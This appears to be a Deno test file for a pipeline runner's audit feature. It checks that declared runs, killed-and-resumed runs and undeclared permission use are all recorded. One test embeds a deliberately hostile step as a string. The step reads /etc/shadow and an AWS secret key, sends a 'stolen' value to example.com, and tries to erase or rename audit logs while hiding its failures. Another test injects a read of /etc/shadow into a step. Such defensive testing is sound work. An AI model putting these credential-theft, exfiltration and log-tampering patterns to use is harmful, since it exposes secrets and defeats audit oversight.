// flags: --allow-read=<project>,<tmp> --allow-write=<tmp> --allow-run=<deno>,/bin/sh --allow-net=127.0.0.1
import assert from "node:assert/strict";
import { copyProject } from "./copy_project.ts";
import { folderWith } from "./folder_with.ts";
import { killRunner } from "./kill_processes.ts";
import { onlyRun } from "./only_run.ts";
import { sluice, startSluice } from "./start_sluice.ts";
import { serve } from "./told_service.ts";

const pipeline = (url: string) =>
  `sluice: v1
name: wait
summary: Wait for a service
params:
  root: { type: path }
steps:
  - id: lock
    uses: release.lock
    with: { root: "\${{ params.root }}" }
  - id: probe
    uses: http.probe
    with: { url: "${url}", deadline: 60s }
`;

const runArgs = ["run", "wait.yaml", "--param", "root=root"];

Deno.test("a run as it was declared is found to be just that", async () => {
  const { url, stop } = serve("ok");
  const cwd = await folderWith({ "wait.yaml": pipeline(url) });
  const ran = await sluice(runArgs, { cwd });
  assert.equal(ran.code, 0, ran.stderr);
  await stop();
  const run = await onlyRun(cwd);
  const audited = await sluice(["audit", run, "--format", "json"], { cwd });
  assert.equal(audited.code, 0, audited.stdout + audited.stderr);
  const report = JSON.parse(audited.stdout);
  assert.deepEqual(report.faults, []);
  assert.deepEqual(
    report.processes.map(({ start, process }: Record<string, unknown>) => [
      start,
      process,
    ]),
    [[1, "runner"]],
  );
  assert.ok(report.processes[0].checks > 5);
  assert.deepEqual(report.never_attempted, [], "both steps need all that they declare");
  assert.ok(ran.stderr.includes(run));
  const text = await sluice(["audit", run.slice(-4)], { cwd });
  assert.match(text.stdout, /attempted and not declared\n {2}nothing\n/);
  assert.match(text.stdout, /no log shows\n {2}- what a program did/);
  // The record of launches is beside the folder, and goes with it.
  const record = await Deno.readTextFile(`${cwd}/.sluice/runs/${run}.launches.jsonl`);
  assert.equal(JSON.parse(record).cwd, cwd);
});

Deno.test("a run that was killed and gone on with is audited in both its processes", async () => {
  const { url, seen, untilAsked, stop } = serve("starting");
  const cwd = await folderWith({ "wait.yaml": pipeline(url) });
  const running = startSluice(runArgs, { cwd });
  await untilAsked(running);
  await killRunner(cwd);
  await running.ended;
  const run = await onlyRun(cwd);
  const cut = await sluice(["audit", run], { cwd });
  assert.equal(cut.code, 0, cut.stdout + cut.stderr);
  assert.match(cut.stdout, /probe \(to run\): not ended/);
  assert.match(cut.stdout, /declared and never attempted\n {2}nothing of what was judged\n/);

  seen.status = "ok";
  const resumed = await sluice(["resume", run], { cwd });
  assert.equal(resumed.code, 0, resumed.stderr);
  await stop();
  const whole = await sluice(["audit", run], { cwd });
  assert.equal(whole.code, 0, whole.stdout + whole.stderr);
  assert.match(whole.stdout, /the runner of start 1 asked \d+ times/);
  assert.match(whole.stdout, /the runner of start 2 asked \d+ times/);
  assert.match(whole.stdout, /declared and never attempted\n {2}nothing: every grant was needed\n/);
});

/** What a step does whose author, or whose library, has turned hostile. */
const hostile = `
async function attempt(work: () => Promise<unknown>, then = () => {}) {
  // Refused, and nobody is to notice.
  await work().then(then, () => {});
}
export async function betray(ctx: { artifacts(): Promise<string>; emit: { note(text: string): void } }) {
  await attempt(() => Deno.readTextFile("../../../../../../../../etc/shadow"));
  await attempt(async () => Deno.env.get("AWS_SECRET_ACCESS_KEY"));
  await attempt(() => fetch("http://example.com/?stolen=hunter2"));
  // It may write the folder of its run: all but the logs.
  const folder = (await ctx.artifacts()).replace(/\\/artifacts$/, "");
  const log = folder + "/audit/1-runner.jsonl";
  for (
    const work of [
      () => Deno.writeTextFile(log, ""),
      () => Deno.truncate(log),
      () => Deno.remove(log),
      () => Deno.rename(folder + "/audit", folder + "/elsewhere"),
      () => Deno.remove(folder + "/audit", { recursive: true }),
      () => Deno.writeTextFile(folder + ".launches.jsonl", ""),
    ]
  ) await attempt(work, () => ctx.emit.note("it covered its traces"));
}
`;

Deno.test("a hostile step of ours is found out, and cannot cover its traces", async () => {
  const { url, stop } = serve("ok");
  const cwd = await folderWith({ "wait.yaml": pipeline(url) });
  const project = await copyProject();
  await project.write("steps/http/betray.ts", hostile);
  await project.edit(
    "steps/http/http_probe.ts",
    "async run(input, ctx) {",
    'async run(input, ctx) {\n    await (await import("./betray.ts")).betray(ctx);',
  );
  const ran = await sluice(runArgs, { cwd, project: project.folder });
  await stop();
  assert.equal(ran.code, 0, ran.stderr);
  assert.doesNotMatch(ran.stdout + ran.stderr, /covered its traces/);
  const run = await onlyRun(cwd);
  const audited = await sluice(["audit", run], { cwd, project: project.folder });
  assert.equal(audited.code, 1, audited.stdout + audited.stderr);
  for (
    const found of [
      /read \/etc\/shadow \(once, .*\n {4}perhaps by lock .*\n {4}perhaps by probe \(http\.probe, wait\.yaml:10\)/,
      /env AWS_SECRET_ACCESS_KEY/,
      /connect or listen example\.com:80/,
      // A path that is longer than a line goes on below.
      /write [^(]*\/audit\/\s*1-runner\.jsonl\s*\(/,
      /write [^(]*\.launches\.\s*jsonl/,
    ]
  ) assert.match(audited.stdout, found);
  assert.doesNotMatch(audited.stdout, /hunter2/);
  assert.match(audited.stdout, /holds addresses with a user or a query/);
});

Deno.test("a step of others is held to its own set, in whatever process", async () => {
  const cwd = await Deno.realPath(await Deno.makeTempDir());
  await Deno.writeTextFile(`${cwd}/hosts`, "a\nb\n");
  const step = await Deno.readTextFile(
    new URL("../fixtures/foreign/count_lines.ts", import.meta.url),
  );
  await Deno.writeTextFile(`${cwd}/good.ts`, step);
  const betrayal = 'try { Deno.readTextFileSync("/etc/shadow"); } catch { /* refused */ }';
  const bad = step.replace("const lines =", `${betrayal}\n    const lines =`);
  assert.notEqual(bad, step);
  await Deno.writeTextFile(`${cwd}/bad.ts`, bad);
  await Deno.writeTextFile(
    `${cwd}/count.yaml`,
    `sluice: v1
name: count
steps:
  - { id: good, uses: ./good.ts, with: { file: hosts } }
  - { id: bad, uses: ./bad.ts, with: { file: hosts } }
`,
  );
  const refused = await sluice(["run", "count.yaml"], { cwd });
  const accept = /--accept sha256:\w+/.exec(refused.stderr)![0].split(" ");
  const ran = await sluice(["run", "count.yaml", ...accept], { cwd });
  assert.equal(ran.code, 0, ran.stderr);
  const audited = await sluice(["audit", await onlyRun(cwd), "--format", "json"], { cwd });
  assert.equal(audited.code, 1, audited.stdout + audited.stderr);
  const { processes, faults, never_attempted } = JSON.parse(audited.stdout);
  assert.deepEqual(faults, []);
  assert.deepEqual(never_attempted, []);
  const found = processes.map(({ process, undeclared }: {
    process: string;
    undeclared: { permission: string; value: string; steps: string[] }[];
  }) => [process, ...undeclared.map(({ permission, value }) => `${permission} ${value}`)]);
  assert.deepEqual(found.sort(), [["bad", "read /etc/shadow"], ["good"], ["runner"]]);
});
